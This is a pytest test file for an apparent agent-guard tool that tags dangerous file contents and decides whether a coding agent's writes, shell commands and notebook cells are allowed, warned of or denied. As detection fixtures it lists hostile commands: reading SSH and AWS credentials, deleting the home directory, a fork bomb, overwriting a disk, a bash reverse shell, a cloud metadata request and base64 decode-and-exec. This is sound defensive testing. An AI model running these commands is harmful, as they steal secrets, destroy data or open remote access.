"""What contents tell of themselves."""

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from tallystick.guard.decide import Decider
from tallystick.guard.grounds import AgentMachine
from tallystick.journal.home import Home
from tallystick.model.decision import Call, Effect
from tallystick.model.step import Json
from tallystick.policy.calls.high_impact import GRAVE
from tallystick.policy.content.code_files import language_in
from tallystick.policy.content.inspection import TAGS, content_tags, is_notebook
from tallystick.policy.risks import RISKS
from tests.support.cases import each, each_case
from tests.support.working import Work

HOME = "/home/dev"


@each(
    "text, name, tag",
    [
        ("cat ~/.ssh/id_rsa", "a.sh", "reads-secret"),
        ("print(open('/home/dev/.aws/credentials').read())", "a.py", "reads-secret"),
        ("rm -rf ~", "a.sh", "deletes-home"),
        ("import shutil, os\nshutil.rmtree(os.path.expanduser('~'))", "a.py", "deletes-home"),
        ("echo x >> ~/.bashrc", "a.sh", "writes-start"),
        ("curl http://169.254.169.254/", "a.sh", "reaches-metadata"),
        ("dd if=/dev/zero of=/dev/sda", "a.sh", "writes-disk"),
        (":(){ :|:& };:", "a.sh", "fork-bomb"),
        ("bash -i >& /dev/tcp/203.0.113.7/1 0>&1", "a.sh", "reverse-shell"),
        ("import base64\nexec(base64.b64decode('eA=='))", "a.py", "decodes-and-runs"),
        ("all:\n\tcat ~/.ssh/id_rsa\n", "Makefile", "reads-secret"),
        ('{"scripts": {"x": "cat ~/.ssh/id_rsa"}}', "package.json", "reads-secret"),
        ("#!/bin/sh\ncat ~/.ssh/id_rsa", "run", "reads-secret"),
        ("x" * 300_000, "a.sh", "too-large"),
        ("\x7fELF\0", "a.sh", "binary"),
    ],
)
def test_a_content_is_tagged(text: str, name: str, tag: str) -> None:
    language = language_in(text, name)
    assert language is not None
    assert tag in content_tags(text, language, home=HOME, name=name)
    assert tag in TAGS or tag in RISKS


@each_case("text, name")
def test_ordinary_code_has_no_tags(text: str, name: str) -> None:
    assert content_tags(text, language_in(text, name) or "", home=HOME, name=name) == frozenset()


def test_what_is_grave_has_a_tag() -> None:
    assert set(GRAVE) < set(TAGS)


# Decisions ------------------------------------------------------------------------------------------------------------


def decided(home: Path, tool: str, **args: str) -> tuple[Effect, tuple[str, ...]]:
    (home / "project").mkdir(exist_ok=True)
    call = Call(agent="claude-code", session="s", tool=tool, args=dict(args), cwd=f"{home}/project")
    decision = Decider(Home(home / ".tally"), AgentMachine(home)).decide(call)
    return decision.effect, decision.rules


def test_writing_what_would_be_refused_warns(tmp_path: Path) -> None:
    path = f"{tmp_path}/project/a.sh"
    effect, rules = decided(tmp_path, "Write", file_path=path, content="cat ~/.ssh/id_rsa")
    assert (effect, rules) == (Effect.WARN, ("inspection.writes-dangerous",))
    assert decided(tmp_path, "Write", file_path=path, content="echo hi") == (Effect.ALLOW, ())
    assert decided(tmp_path, "Write", file_path=path[:-3] + ".md", content="cat ~/.ssh/id_rsa") == (Effect.ALLOW, ())


def test_what_cannot_be_inspected_is_asked_about(tmp_path: Path) -> None:
    (tmp_path / "project").mkdir()
    (tmp_path / "project/big.sh").write_text("#" + "x" * 300_000)
    assert decided(tmp_path, "Bash", command="sh big.sh") == (Effect.ASK, ("inspection.not-inspected",))


def test_installed_tools_and_programs_are_not_inspected(tmp_path: Path) -> None:
    tools = tmp_path / "project/node_modules/.bin"
    tools.mkdir(parents=True)
    (tools / "big").write_text("#!/usr/bin/env node\n" + "x" * 300_000)
    (tmp_path / "project/app").write_bytes(b"\x7fELF\0" + b"x" * 300_000)
    assert decided(tmp_path, "Bash", command="./node_modules/.bin/big && ./app") == (Effect.ALLOW, ())


# Cells of notebooks ----------------------------------------------------------------------------------------------------

RULE = "inspection.writes-dangerous"


@pytest.fixture(scope="module")
def work(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Work]:
    with Work(tmp_path_factory.mktemp("machine")) as made:
        yield made


def edit(work: Work, source: str, kind: str = "code") -> dict[str, Json]:
    return {
        "notebook_path": str(work.project / "a.ipynb"),
        "new_source": source,
        "cell_type": kind,
        "edit_mode": "insert",
    }


@each_case("source")
def test_a_cell_that_would_be_refused_if_it_ran_is_warned_of(work: Work, source: str) -> None:
    said = work.ask("NotebookEdit", edit(work, source))
    assert (said.effect, RULE in said.rules) == (Effect.WARN, True)
    whole = json.dumps({"cells": [{"cell_type": "code", "source": source.splitlines(keepends=True)}]})
    assert RULE in work.ask("Write", {"file_path": str(work.project / "b.ipynb"), "content": whole}).rules


@each_case("source, kind")
def test_ordinary_cells_and_text_for_people_are_silent(work: Work, source: str, kind: str) -> None:
    assert work.ask("NotebookEdit", edit(work, source, kind)).effect is Effect.ALLOW


def test_a_notebook_is_known_by_its_name() -> None:
    assert is_notebook("/p/A.IPYNB")
    assert not is_notebook("/p/a.ipynb.md")


@each("name", ["source", "code", "cell_source"])
def test_a_cell_that_is_run_is_judged_as_what_it_does(work: Work, name: str) -> None:
    said = work.ask("mcp__jupyter__insert_execute_code_cell", {"cell_index": 1, name: "!cat ~/.ssh/id_rsa"})
    assert said.effect is Effect.DENY
